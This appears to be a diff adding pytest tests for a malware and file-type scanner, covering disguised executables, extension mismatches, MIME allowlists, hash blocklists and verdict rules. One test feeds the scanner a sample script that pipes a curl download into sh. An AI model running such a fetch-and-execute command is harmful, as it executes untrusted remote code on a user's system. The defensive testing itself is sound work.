@@ -1,0 +1,113 @@
+"""libmagic versus extension, executables, allowlist, blocklists, verdict rules."""
+
+from __future__ import annotations
+
+import hashlib
+from pathlib import Path
+
+import pytest
+
+from secops.scanning import Finding, ScanConfig, Scanner, Severity, Verdict
+from secops.scanning.models import verdict_for
+from tests.scanning.conftest import ids
+from tests.scanning.corpus import EICAR, minimal_elf, minimal_pe, pdf, png, zip_bytes
+
+
+@pytest.mark.parametrize("name", ["invoice.pdf", "photo.jpg", "notes.txt", "report.docx"])
+def test_pe_disguised_as_document_is_high(scanner: Scanner, name: str) -> None:
+    result = scanner.scan_bytes(minimal_pe(), name)
+    disguised = [f for f in result.findings if f.id == "type.disguised_executable"]
+    assert disguised and disguised[0].severity is Severity.HIGH
+    assert result.verdict is Verdict.SUSPICIOUS
+
+
+def test_executables_are_identified_and_clean_when_named_honestly(scanner: Scanner) -> None:
+    pe = scanner.scan_bytes(minimal_pe(), "setup.exe")
+    assert [f.description for f in pe.findings if f.id == "executable.identified"][0].startswith(
+        "PE executable (x86-64)")
+    assert pe.verdict is Verdict.CLEAN
+    elf = scanner.scan_bytes(minimal_elf(), "tool")
+    assert "ELF 64-bit executable (x86-64)" in elf.findings[0].description
+    assert elf.verdict is Verdict.CLEAN
+
+
+def test_elf_disguised_as_image_inside_archive(scanner: Scanner) -> None:
+    result = scanner.scan_bytes(zip_bytes([("pics/cat.png", minimal_elf())]), "pics.zip")
+    assert {f.location for f in result.findings if f.id == "type.disguised_executable"} == {
+        "pics.zip!pics/cat.png"}
+
+
+def test_script_disguised_as_document(scanner: Scanner) -> None:
+    result = scanner.scan_bytes(b"#!/bin/sh\ncurl http://x | sh\n", "cv.pdf")
+    assert "type.disguised_script" in ids(result)
+    assert result.verdict is Verdict.SUSPICIOUS
+
+
+def test_extension_mismatch_and_double_extension(scanner: Scanner) -> None:
+    assert "type.extension_mismatch" in ids(scanner.scan_bytes(png(), "scan.pdf"))
+    assert "type.extension_mismatch" not in ids(scanner.scan_bytes(pdf(), "scan.pdf"))
+    assert "type.double_extension" in ids(scanner.scan_bytes(b"echo", "invoice.pdf.bat"))
+    assert "type.double_extension" not in ids(scanner.scan_bytes(b"echo", "build.tar.bat"))
+
+
+def test_allowlist_of_accepted_types() -> None:
+    scanner = Scanner(ScanConfig(allowed_mime_types=frozenset({"application/pdf", "image/*"})))
+    assert scanner.scan_bytes(pdf(), "a.pdf").verdict is Verdict.CLEAN
+    assert scanner.scan_bytes(png(), "a.png").verdict is Verdict.CLEAN
+    result = scanner.scan_bytes(b"plain words\n", "a.txt")
+    assert "type.not_allowed" in ids(result) and result.verdict is Verdict.SUSPICIOUS
+
+
+def test_hash_blocklists_make_files_malicious(tmp_path: Path) -> None:
+    bad = b"an innocent looking but known bad file\n"
+    nested_bad = b"known bad member\n"
+    sha_file = tmp_path / "sha256.txt"
+    sha_file.write_text(f"# feed header\n{hashlib.sha256(bad).hexdigest().upper()}  bad.txt\n"
+                        "not-a-digest\n")
+    md5_file = tmp_path / "md5.txt"
+    md5_file.write_text(hashlib.md5(nested_bad).hexdigest() + "\n")
+    scanner = Scanner(ScanConfig(sha256_blocklists=(sha_file,), md5_blocklists=(md5_file,)))
+    top = scanner.scan_bytes(bad, "bad.txt")
+    assert ids(top) == {"hash.blocklist.sha256"} and top.verdict is Verdict.MALICIOUS
+    nested = scanner.scan_bytes(zip_bytes([("x/m.txt", nested_bad)]), "a.zip")
+    assert [(f.id, f.location) for f in nested.findings] == [("hash.blocklist.md5",
+                                                              "a.zip!x/m.txt")]
+    assert scanner.scan_bytes(b"other", "o.txt").verdict is Verdict.CLEAN
+
+
+def test_result_fields_and_contract_dict(scanner: Scanner, tmp_path: Path) -> None:
+    path = tmp_path / "eicar.com"
+    path.write_bytes(EICAR)
+    result = scanner.scan_path(path)
+    assert result.sha256 == hashlib.sha256(EICAR).hexdigest()
+    assert result.md5 == hashlib.md5(EICAR).hexdigest()
+    assert (result.size, result.path, result.mime) == (68, str(path), "text/plain")
+    assert result.description and result.ruleset_version == scanner.ruleset_version
+    assert list(result.to_dict()) == ["path", "sha256", "size", "mime", "verdict", "findings"]
+    assert list(result.to_dict()["findings"][0]) == ["id", "severity", "description",
+                                                     "location"]
+
+
+def test_verdict_rules() -> None:
+    def finding(severity: Severity) -> Finding:
+        return Finding("x", severity, "d")
+
+    assert verdict_for([]) is Verdict.CLEAN
+    assert verdict_for([finding(Severity.INFO), finding(Severity.LOW)]) is Verdict.CLEAN
+    assert verdict_for([finding(Severity.MEDIUM)]) is Verdict.SUSPICIOUS
+    assert verdict_for([finding(Severity.HIGH)]) is Verdict.SUSPICIOUS
+    assert verdict_for([finding(Severity.LOW), finding(Severity.CRITICAL)]) is Verdict.MALICIOUS
+
+
+def test_engine_is_pure() -> None:
+    import ast
+
+    root = Path(__file__).resolve().parents[2] / "secops" / "scanning"
+    forbidden = ("secops.api", "secops.db", "secops.services", "secops.config", "tasks",
+                 "requests", "httpx", "socket", "urllib")
+    for source in root.glob("*.py"):
+        for node in ast.walk(ast.parse(source.read_text())):
+            names = ([a.name for a in node.names] if isinstance(node, ast.Import)
+                     else [node.module or ""] if isinstance(node, ast.ImportFrom) else [])
+            for name in names:
+                assert not name.startswith(forbidden), f"{source.name} imports {name}"
